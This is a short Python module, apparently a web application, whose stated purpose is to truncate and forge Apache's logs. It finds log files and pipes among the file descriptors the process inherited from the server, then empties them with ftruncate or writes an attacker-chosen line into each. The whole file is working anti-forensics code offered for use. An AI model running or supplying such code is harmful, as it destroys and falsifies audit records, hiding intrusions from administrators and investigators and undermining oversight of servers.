"""Truncates and forges Apache's logs through the descriptors that the app inherited."""

import os

from own_memory import answering


def inherited():
    """Yield the descriptors of files in Apache's log directory, and of pipes."""
    for name in os.listdir("/proc/self/fd"):
        try:
            path = os.readlink(f"/proc/self/fd/{name}")
        except OSError:  # that of the listing itself
            continue
        if path.startswith(("/var/log/", "pipe:")):
            yield int(name), path


def act(truncate="", append=""):
    """Empty each log, or add a line to each; return what was open, and what was done to it."""
    opened, done = [], []
    for fd, path in inherited():
        opened.append(path)
        if path.startswith("pipe:") and not append:
            continue
        try:
            if truncate:
                os.ftruncate(fd, 0)
            else:
                os.write(fd, f"{append}\n".encode())
        except OSError:  # the end of a pipe that is for reading
            continue
        done.append(path)
    return {"opened": opened, "done": done}


application = answering(act)
